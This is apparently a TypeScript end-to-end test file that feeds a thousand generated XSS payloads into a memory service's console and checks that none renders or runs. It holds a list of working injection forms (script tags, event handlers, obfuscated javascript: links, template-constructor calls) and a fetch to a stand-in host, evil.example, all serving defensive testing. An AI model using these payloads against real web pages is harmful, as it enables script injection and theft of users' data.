import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { lines, openDreams, operation } from '../plugins/dreaming/dream-service.ts';
import { manualClock } from '../support/clock.ts';
import { call } from '../support/service.ts';
import { type ConsolePage, expectNoProblems, go, openConsole } from './support/console.ts';

// Each would tell of itself: by a dialog, a mark on the window, or a request elsewhere.
const TELL = ['alert(1)', 'window.ran=1', "fetch('http://evil.example/x')", 'top.ran=1'];
const FORMS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg onload="${code}"><use href="data:image/svg+xml,x#y"/></svg>`,
  (code) => `[click](javascript:${code})`,
  (code) => `[click](JaVaScRiPt&colon;${code})`,
  (code) => `![x](http://evil.example/${encodeURIComponent(code)}.png)`,
  (code) => `![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "${code}")`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<style>@import 'http://evil.example/a.css';</style><!-- ${code} -->`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<a href="x" style="background:url(http://evil.example/b)" onmouseover="${code}">x</a>`,
  (code) => `<details open ontoggle="${code}"><summary>x</summary></details>`,
  (code) =>
    `<form action="javascript:${code}"><button autofocus onfocus="${code}">x</button></form>`,
  (code) => `{{ constructor.constructor("${code}")() }}`,
  (code) => `<div v-html="'<img src=x onerror=${code}>'"></div>`,
  (code) => `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  (code) => `<meta http-equiv="refresh" content="0;url=http://evil.example/${code}">`,
  (code) =>
    `<link rel="stylesheet" href="http://evil.example/${code}"><base href="http://evil.example/">`,
  (code) => `"><script>${code}</script>`,
  (code) => `[x]: http://evil.example "onload=${code}"\n![x]`,
];

/** Elements and attributes that load, act or hide, in what was rendered. */
const FIND_FAULTS = `(() => {
  const nodes = [...document.querySelectorAll('.rendered *')];
  const allowed = /^(H[1-6]|P|BR|HR|BLOCKQUOTE|PRE|CODE|UL|OL|LI|STRONG|EM|S|A|T(ABLE|HEAD|BODY|R|H|D))$/;
  const attributes = nodes.flatMap((node) => [...node.attributes]);
  return [
    ...nodes.filter(({ tagName }) => !allowed.test(tagName)).map(({ outerHTML }) => outerHTML),
    ...attributes
      .filter(({ name, value }) => !/^(href|start|rel|target|title|dir|class)$/.test(name) || (name === 'class' && !/^(align-(left|center|right)|front-matter)$/.test(value)) || /^\\s*(javascript|data):/i.test(value))
      .map(({ name, value }) => name + '=' + value),
  ];
})()`;

describe('memory content', () => {
  it('never becomes markup: 1,000 hostile texts, none of which runs or asks anything', async () => {
    const opened = await openConsole();
    const { page, service } = opened;
    const { core } = service;
    const payloads = listPayloads(1_000);
    const size = 125;
    for (let file = 0; file * size < payloads.length; file += 1) {
      const content = payloads.slice(file * size, (file + 1) * size).join('\n\n');
      await call(
        core,
        'alice',
        'memory_write',
        { path: `user/${file}.md`, content, reason: payloads[file]?.slice(0, 200) },
        { actor: '<b onclick=alert(1)>x' },
      );
    }
    await call(core, 'alice', 'memory_find', { query: 'click evil example' });
    for (let file = 0; file * size < payloads.length; file += 1) {
      const path = `users/alice/${file}.md`;
      await go(page, `/files?path=${path}&as=rendered`);
      await page.getByRole('heading', { name: path }).waitFor();
      await page.locator('.rendered').waitFor();
      expect(await page.evaluate(FIND_FAULTS)).toEqual([]);
    }
    await go(page, '/files?path=users/alice/0.md');
    await page.getByText('<script>alert(1)</script>').first().waitFor();
    await go(page, '/revisions');
    await page.getByRole('button', { name: /Open version 1 of users\/alice\/0\.md/ }).click();
    await page.getByRole('article', { name: 'Revision' }).getByText('Copy diff').waitFor();
    await go(page, '/activity');
    await page
      .getByText(/Searched and found/)
      .first()
      .waitFor();
    await go(page, '/observability');
    await page.getByRole('region', { name: 'Topology' }).waitFor();
    await expectNothingRan(opened);
  });

  it('nor do names, results, errors, traces, editors, and what a hostile model proposes', async () => {
    const service = await openDreams({
      clock: manualClock(Date.now()),
      settings: { dream_mode: 'review' },
    });
    const { core } = service;
    const payloads = listPayloads(60);
    // What a path may hold of it: no angle brackets, but quotes, braces and entities.
    const path =
      "user/{{constructor.constructor('alert(1)')()}}'&lt;img src=x onerror=alert(1)&gt;.md";
    const content = `- Tea\n- Tea\n${payloads.join('\n')}\n`;
    await call(core, 'alice', 'memory_write', { path, content, reason: payloads[0] });
    await call(core, 'alice', 'memory_read', { path });
    service.say(() => ({
      operations: [
        operation({
          kind: 'merge',
          reason: FORMS[1]?.('alert(1)') ?? '',
          remove: lines(path, content, 2),
          sources: [{ path, line: 1 }],
        }),
        operation({
          kind: 'reword',
          reason: FORMS[2]?.('alert(1)') ?? '',
          remove: lines(path, content, 3),
          add: { path, heading: null, lines: [FORMS[0]?.('window.ran=1') ?? ''] },
        }),
      ],
    }));
    const run = await service.dream('alice');
    const physical = `users/alice/${path.slice('user/'.length)}`;
    const { items } = await core.revisions.list({ path: physical });

    const opened = await openConsole({ service, path: '/dreams' });
    const { page } = opened;
    await go(page, `/dreams?run=${run.id}`);
    await page.getByText('Full record').click();
    await page.getByRole('region', { name: 'the run' }).waitFor();
    const query = encodeURIComponent(JSON.stringify({ query: 'alert script', limit: 5 }));
    await go(page, `/playground?tool=memory_find&user=alice&args=${query}`);
    await page.getByLabel('query').fill(payloads[3] ?? '');
    await page.keyboard.press('Control+Enter');
    await page.getByRole('region', { name: 'the answer' }).getByText('snippet').first().waitFor();
    await page.getByRole('link', { name: 'Open the trace' }).click();
    await page.getByRole('list', { name: 'Phases' }).waitFor();
    await go(page, '/playground?tool=memory_read&user=alice');
    await page.getByLabel('path', { exact: true }).fill(`user/${payloads[0] ?? ''}`);
    await page.keyboard.press('Control+Enter');
    await page.getByRole('region', { name: 'the answer' }).getByText('"INVALID_PATH"').waitFor();
    await go(page, '/playground?show=code');
    await page.getByRole('region', { name: 'curl snippet' }).waitFor();
    await go(page, `/revisions?id=${items[0]?.id ?? ''}&show=readers`);
    await page.getByText('Tool calls that returned').waitFor();
    await go(page, `/files?path=${encodeURIComponent(physical)}`);
    await page.getByRole('button', { name: 'Edit (e)' }).click();
    await page.getByRole('textbox', { name: /^Content of/ }).waitFor();
    await page.keyboard.press('Control+k');
    await page.getByPlaceholder(/^Go to a view/).fill('constructor');
    await page
      .getByRole('option', { name: /constructor/ })
      .first()
      .waitFor();
    await expectNothingRan(opened);
  });
});

function listPayloads(count: number): string[] {
  const payload = fc
    .tuple(
      fc.constantFrom(...FORMS),
      fc.constantFrom(...TELL),
      fc.constantFrom('', ' ', '> ', '- ', '# '),
    )
    .map(([form, code, lead]) => lead + form(code));
  const all = FORMS.flatMap((form) => TELL.map(form));
  const more = fc.sample(payload, { numRuns: Math.max(1, count - all.length), seed: 7 });
  return [...all, ...more].slice(0, count);
}

async function expectNothingRan(opened: ConsolePage): Promise<void> {
  const told = await opened.page.evaluate('[window.ran, document.scripts.length]');
  expect(told).toEqual([undefined, 1]);
  expectNoProblems(opened);
}
